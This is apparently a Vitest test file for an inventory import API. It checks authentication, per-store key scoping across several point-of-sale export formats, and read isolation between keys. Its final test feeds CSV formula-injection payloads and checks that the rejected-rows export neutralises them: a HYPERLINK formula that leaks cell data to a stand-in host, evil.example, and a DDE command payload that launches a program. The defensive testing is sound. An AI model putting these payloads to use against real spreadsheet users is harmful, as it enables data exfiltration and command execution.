import { sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { seedStoresAndKeys, useTestContext } from "../helpers/context.js";
import { batchesOf, ledgerSnapshot, stockOf } from "../helpers/ledger-reads.js";
import { expectJson, expectProblem, getWithKey, importCsv, upload } from "../helpers/sync-requests.js";

const ctx = useTestContext();

async function seedStock() {
  const seeded = await seedStoresAndKeys(ctx);
  await importCsv(ctx, seeded.chainKey, "store,sku,on_hand,observed_at\nS12,000123,14,2026-11-20T10:00:00Z\nS7,000123,3,2026-11-20T10:00:00Z\n");
  return seeded;
}

const SQUARE_HEADER =
  "Token,Item Name,Variation Name,SKU,Categories,Price,Archived,Sellable,Stockable," +
  "Enabled Mt Auburn,Current Quantity Mt Auburn,New Quantity Mt Auburn,Stock Alert Enabled Mt Auburn,Stock Alert Count Mt Auburn,Price Mt Auburn";

describe("POST /v1/imports: who may send", () => {
  it.each([
    ["no Authorization header", {}],
    ["an unknown key", { authorization: "Bearer sw_not-a-key" }],
    ["another scheme", { authorization: "Basic c3c6c3c=" }],
  ])("answers 401 with a challenge for %s, and stores nothing", async (_case, headers) => {
    await seedStock();
    const before = await ledgerSnapshot(ctx);
    const batches = await batchesOf(ctx);
    const res = await upload(ctx, null, "store,sku,on_hand\nS12,000123,0\n", { headers });
    await expectProblem(res, 401, "unauthorized");
    expect(res.headers.get("www-authenticate")).toBe('Bearer realm="shelfwatch"');
    expect(await ledgerSnapshot(ctx)).toEqual(before);
    expect(await batchesOf(ctx)).toEqual(batches);
  });

  it("answers 401 for a revoked key", async () => {
    const { s12Key } = await seedStock();
    await ctx.db.db.execute(sql`update api_keys set revoked_at = now() where name = 's12 till'`);
    const before = await ledgerSnapshot(ctx);
    const res = await upload(ctx, s12Key, "store,sku,on_hand\nS12,000123,0\n");
    const problem = await expectProblem(res, 401, "unauthorized");
    expect(problem.detail).toBe("the API key is unknown or revoked");
    expect(res.headers.get("www-authenticate")).toBe('Bearer realm="shelfwatch"');
    expect(await ledgerSnapshot(ctx)).toEqual(before);
  });
});

describe("POST /v1/imports: a key limited to S12", () => {
  it("writes to S12 under any of its names", async () => {
    const { s12Key } = await seedStock();
    const report = await importCsv(ctx, s12Key, "store,sku,on_hand\nS12,000123,9\nMt_Auburn,000124,2\n");
    expect(report).toMatchObject({ rowsAccepted: 2, rowsRejected: 0 });
    expect(await stockOf(ctx, "S12", "000123")).toMatchObject({ on_hand: 9 });
    expect(await stockOf(ctx, "S12", "000124")).toMatchObject({ on_hand: 2 });
  });

  it("is refused (403) a generic file with a row for S7, and none of the file is applied", async () => {
    const { s12Key } = await seedStock();
    const before = await ledgerSnapshot(ctx);
    const res = await upload(ctx, s12Key, "store,sku,on_hand\nS12,000123,0\nS7,000123,0\n");
    const problem = await expectProblem(res, 403, "forbidden_store");
    expect(problem.errors).toEqual([{ line: 3, column: "store", reason: "store S7 is outside this key's stores" }]);
    expect(await ledgerSnapshot(ctx)).toEqual(before);
    expect(await stockOf(ctx, "S7", "000123")).toMatchObject({ on_hand: 3 });
    expect((await batchesOf(ctx)).at(-1)).toMatchObject({ status: "rejected", problem: { code: "forbidden_store" } });
  });

  it("is refused a Square item library export whose location columns name S7's alias", async () => {
    const { s12Key } = await seedStock();
    const before = await ledgerSnapshot(ctx);
    const csv = [
      `${SQUARE_HEADER},Enabled Harbour,Current Quantity Harbour,New Quantity Harbour,Stock Alert Enabled Harbour,Stock Alert Count Harbour,Price Harbour`,
      "TK1,Oat Milk 1L,Regular,000123,Dairy,$4.50,N,Y,Y,Y,0,,Y,3,$4.50,Y,0,,Y,2,$4.50",
      "",
    ].join("\n");
    const res = await upload(ctx, s12Key, csv);
    const problem = await expectProblem(res, 403, "forbidden_store");
    expect(problem.detail).toBe('this API key may not write to store S7 (named "Harbour" in the file)');
    expect(problem.errors).toEqual([{ line: 1, column: "Harbour", reason: "store S7 is outside this key's stores" }]);
    expect(await ledgerSnapshot(ctx)).toEqual(before);

    // the same export with only its own location lands
    const own = await importCsv(ctx, s12Key, `${SQUARE_HEADER}\nTK1,Oat Milk 1L,Regular,000123,Dairy,$4.50,N,Y,Y,Y,0,,Y,3,$4.50\n`);
    expect(own).toMatchObject({ format: "square-items", rowsAccepted: 1 });
    expect(await stockOf(ctx, "S12", "000123")).toMatchObject({ on_hand: 0, reorder_point: 3 });
    expect(await stockOf(ctx, "S7", "000123")).toMatchObject({ on_hand: 3 });
  });

  it("is refused a Lightspeed export with an outlet column for S7", async () => {
    const { s12Key } = await seedStock();
    const before = await ledgerSnapshot(ctx);
    const csv = "id,handle,sku,name,track_inventory,inventory_Mt_Auburn,inventory_Harbour\r\n0a1b,oat-milk,000123,Oat Milk 1L,1,0,\r\n";
    await expectProblem(await upload(ctx, s12Key, csv), 403, "forbidden_store");
    expect(await ledgerSnapshot(ctx)).toEqual(before);
  });

  it("is refused a Shopify export with a row at S7's location, naming the line", async () => {
    const { s12Key } = await seedStock();
    const before = await ledgerSnapshot(ctx);
    const csv = [
      "Handle,Title,SKU,Location,On hand (current),On hand (new)",
      "oat-milk,Oat Milk 1L,000123,Mt Auburn,0,",
      "oat-milk,Oat Milk 1L,000123,Harbour,0,",
      "",
    ].join("\n");
    const problem = await expectProblem(await upload(ctx, s12Key, csv), 403, "forbidden_store");
    expect(problem.errors).toEqual([{ line: 3, column: "Location", reason: "store S7 is outside this key's stores" }]);
    expect(await ledgerSnapshot(ctx)).toEqual(before);
  });
});

describe("GET /v1/imports: a key limited to stores sees only its own imports", () => {
  it("answers 404 for another key's import and its rejected rows, and lists only its own", async () => {
    const { chainKey, s12Key } = await seedStoresAndKeys(ctx);
    const chainImport = await importCsv(ctx, chainKey, "store,sku,on_hand\nS7,000123,abc\nS7,000124,4\n");
    const ownImport = await importCsv(ctx, s12Key, "store,sku,on_hand\nS12,000123,5\n");

    await expectProblem(await getWithKey(ctx, s12Key, `/v1/imports/${chainImport.batchId}`), 404, "not_found");
    await expectProblem(await getWithKey(ctx, s12Key, `/v1/imports/${chainImport.batchId}/rejected.csv`), 404, "not_found");
    const own = await expectJson(await getWithKey(ctx, s12Key, `/v1/imports/${ownImport.batchId}`), 200);
    expect(own).toMatchObject({ id: ownImport.batchId, rowsAccepted: 1 });

    const listed = await expectJson<{ imports: Array<{ id: number }> }>(await getWithKey(ctx, s12Key, "/v1/imports"), 200);
    expect(listed.imports.map((i) => i.id)).toEqual([ownImport.batchId]);

    // a chain-wide key sees every import
    const all = await expectJson<{ imports: Array<{ id: number }> }>(await getWithKey(ctx, chainKey, "/v1/imports"), 200);
    expect(all.imports.map((i) => i.id)).toEqual([ownImport.batchId, chainImport.batchId]);
    const rejected = await getWithKey(ctx, chainKey, `/v1/imports/${chainImport.batchId}/rejected.csv`);
    expect(rejected.status).toBe(200);
    expect(await rejected.text()).toContain("S7,000123,abc,");
  });

  it("answers 401 to a read without a key", async () => {
    const { chainKey } = await seedStoresAndKeys(ctx);
    const report = await importCsv(ctx, chainKey, "store,sku,on_hand\nS12,000123,5\n");
    const res = await getWithKey(ctx, null, `/v1/imports/${report.batchId}`);
    await expectProblem(res, 401, "unauthorized");
    expect(res.headers.get("www-authenticate")).toBe('Bearer realm="shelfwatch"');
  });
});

describe("GET /v1/imports/:id/rejected.csv: formula injection (issue 16)", () => {
  it("hands back no cell a spreadsheet would run as a formula, and leaves plain numbers usable", async () => {
    const { chainKey } = await seedStoresAndKeys(ctx);
    const file =
      "store,sku,on_hand,name,=1+2\n" +
      'S99,000123,-3,"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",@SUM(1+1)\n' +
      "S12,=cmd|' /C calc'!A0,abc,+1+1,-2+3\n" +
      'S12,000125,x,"\t=1+1","\r=2+2"\n';
    const report = await importCsv(ctx, chainKey, file);
    expect(report.rowsRejected).toBe(3);
    const res = await getWithKey(ctx, chainKey, `/v1/imports/${report.batchId}/rejected.csv`);
    expect(res.status).toBe(200);
    const lines = (await res.text()).split("\r\n");
    expect(lines[0]).toBe(`store,sku,on_hand,name,"'=1+2",shelfwatch_error`);
    // each such cell starts with a quote, which a spreadsheet shows as text; -3 stays a number
    expect(lines[1]).toMatch(/^S99,000123,-3,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""Click""\)","'@SUM\(1\+1\)","line 2: /);
    expect(lines[2]).toMatch(/^S12,"'=cmd\|' \/C calc'!A0",abc,"'\+1\+1","'-2\+3","line 3: /);
    expect(lines[3]).toMatch(/^S12,000125,x,"'\t=1\+1","'\r=2\+2","line 4: /);
  });
});
